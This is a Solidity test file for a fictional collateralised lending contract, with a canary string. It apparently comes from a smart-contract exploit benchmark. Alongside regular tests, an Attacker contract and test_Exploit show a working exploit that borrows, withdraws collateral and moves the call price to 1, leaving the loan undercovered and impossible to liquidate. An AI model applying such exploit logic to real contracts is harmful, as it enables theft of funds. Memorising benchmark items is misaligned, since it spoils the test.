// SPDX-License-Identifier: UNLICENSED
pragma solidity 0.8.30;

// assay-canary-e54bdced-d55b-4d8d-bd46-2bd9a23789c0

import "./TanneryLoans.sol";

interface Vm {
    function warp(uint256 timestamp) external;
    function expectRevert(bytes4 reason) external;
    function prank(address sender) external;
}

contract Ware is IERC20 {
    address private maker = msg.sender;
    bool private asleep;

    /// While it sleeps, it says no.
    function sleep(bool asleep_) external {
        require(msg.sender == maker, "maker only");
        asleep = asleep_;
    }

    address private minter = msg.sender;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 value) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += value;
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        if (asleep) return false;
        balanceOf[msg.sender] -= value;
        balanceOf[to] += value;
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        if (asleep) return false;
        allowance[from][msg.sender] -= value;
        balanceOf[from] -= value;
        balanceOf[to] += value;
        return true;
    }
}

contract Tanner {
    TanneryLoans internal loans;

    constructor(TanneryLoans loans_, Ware cash, Ware hide) {
        loans = loans_;
        cash.approve(address(loans_), type(uint256).max);
        hide.approve(address(loans_), type(uint256).max);
    }

    function open(uint256 hides, uint256 amount, uint256 callPrice) public returns (uint256) {
        return loans.open(hides, amount, callPrice);
    }

    function move(uint256 id, uint256 callPrice) public {
        loans.moveCallPrice(id, callPrice);
    }

    function take(uint256 id, uint256 hides) public {
        loans.takeHides(id, hides);
    }

    function repay(uint256 id, uint256 amount) external {
        loans.repay(id, amount);
    }
}

/// A tanner like the others. Has read tomorrow's price.
contract Attacker is Tanner {
    constructor(TanneryLoans loans_, Ware cash, Ware hide) Tanner(loans_, cash, hide) {}

    function borrow() external {
        uint256 id = open(1_000e18, 70_000e6, 75e6);
        take(id, 7e18);
        move(id, 1);
    }
}

contract Proof {
    Vm private constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    uint256 private constant START = 1_790_000_000;

    Ware public cash;
    Ware public hide;
    HideExchange public exchange;
    TanneryLoans public loans;
    Tanner public honest;
    Attacker public sly;

    function setUp() public {
        vm.warp(START);
        cash = new Ware();
        hide = new Ware();
        exchange = new HideExchange(100e6);
        loans = new TanneryLoans(cash, hide, exchange);
        honest = new Tanner(loans, cash, hide);
        sly = new Attacker(loans, cash, hide);
        cash.mint(address(loans), 200_000e6);
        hide.mint(address(honest), 1_000e18);
        hide.mint(address(sly), 1_000e18);
        honest.open(500e18, 30_000e6, 70e6);
        cash.mint(address(this), 500_000e6);
        cash.approve(address(loans), type(uint256).max);

        // Hides will be cheaper tomorrow.
        exchange.publish(84e6, uint128(START + 1 days));
    }

    /// What the house can count on: its cash, and of each loan what the hides bring where it is called.
    function houseCounts() public view returns (uint256 sum) {
        sum = cash.balanceOf(address(loans));
        uint256 price = exchange.price();
        for (uint256 i = 0; i < loans.loanCount(); i++) {
            TanneryLoans.Loan memory loan = loans.loanInfo(i);
            uint256 at = loan.callPrice < price ? loan.callPrice : price;
            uint256 brings = (loan.hides * at * 95) / 100 / 1e18;
            sum += brings < loan.debt ? brings : loan.debt;
        }
    }

    function test_Regular() public {
        require(houseCounts() == 200_300e6, "covered in full");

        // Room and cover.
        try honest.open(500e18, 10_000e6, 91e6) {
            revert("too close to the price");
        } catch {}
        try honest.open(100e18, 9_000e6, 75e6) {
            revert("not covered");
        } catch {}
        try honest.take(0, 100e18) {
            revert("hides are needed");
        } catch {}

        // A higher call price frees hides.
        try sly.move(0, 80e6) {
            revert("moved by a stranger");
        } catch {}
        try honest.move(0, 76e6) {
            revert("moved too close");
        } catch {}
        honest.move(0, 75e6);
        honest.take(0, 70e18);
        require(loans.loanInfo(0).hides == 430e18 && houseCounts() == 200_300e6, "still covered");
        try loans.callIn(0) {
            revert("called above the call price");
        } catch {}

        // Part of the debt is repaid, then the price falls to the call price.
        cash.mint(address(honest), 20_300e6);
        honest.repay(0, 10_300e6);
        require(loans.loanInfo(0).debt == 20_000e6, "part");
        vm.warp(START + 1 days);
        exchange.publish(75e6, uint128(START + 2 days));
        vm.warp(START + 2 days);
        uint256 before = cash.balanceOf(address(loans));
        require(loans.callIn(0) == 30_637_500_000, "95 % of the price");
        require(hide.balanceOf(address(this)) == 430e18, "bought");
        require(cash.balanceOf(address(loans)) == before + 20_000e6, "house is paid");
        require(cash.balanceOf(address(honest)) == 30_000e6 + 10_000e6 + 10_637_500_000, "tanner has the rest");
        try loans.callIn(0) {
            revert("called twice");
        } catch {}

        // A loan that is repaid in full, and one that runs out its term.
        uint256 id = honest.open(570e18, 20_000e6, 50e6);
        loans.repay(id, type(uint256).max);
        require(hide.balanceOf(address(honest)) == 570e18, "hides are back");
        id = honest.open(570e18, 20_000e6, 50e6);
        vm.warp(START + 362 days);
        try loans.callIn(id) {
            revert("within the term");
        } catch {}
        vm.warp(START + 362 days + 1);
        loans.callIn(id);
        loans.takeCash(1e6);
    }

    // What is refused, each from the state after setUp().

    /// The next call is made by who, and reverts for this reason.
    function refuses(address who, bytes4 why) internal {
        vm.prank(who);
        vm.expectRevert(why);
    }

    /// A loan is its tanner's, the cash the house's.
    function test_RefusesStrangers() public {
        refuses(address(sly), TanneryLoans.NotTheTanner.selector);
        loans.moveCallPrice(0, 75e6);
        refuses(address(sly), TanneryLoans.NotTheTanner.selector);
        loans.takeHides(0, 0);
        refuses(address(sly), TanneryLoans.NotTheHouse.selector);
        loans.takeCash(1);
    }

    /// Wares that say no are believed.
    function test_RefusesFailedTransfers() public {
        cash.sleep(true);
        vm.expectRevert(TanneryLoans.TransferFailed.selector);
        loans.repay(0, 1);
        vm.expectRevert(TanneryLoans.TransferFailed.selector);
        loans.takeCash(1);
    }

    function exploit() public {
        sly.borrow();
    }

    function test_Exploit() public {
        uint256 before = houseCounts();
        exploit();
        require(houseCounts() + 69_900e6 <= before, "the house is covered");
        require(cash.balanceOf(address(sly)) == 70_000e6 && hide.balanceOf(address(sly)) == 7e18, "taken out");
                // Through the former call price, and nobody can call the loan in.
        vm.warp(START + 1 days);
        exchange.publish(60e6, uint128(START + 2 days));
        vm.warp(START + 2 days);
        try loans.callIn(1) {
            revert("called in");
        } catch {}
    }

    function target() public view returns (address) {
        return address(loans);
    }

    function attacker() public view returns (address) {
        return address(sly);
    }
}
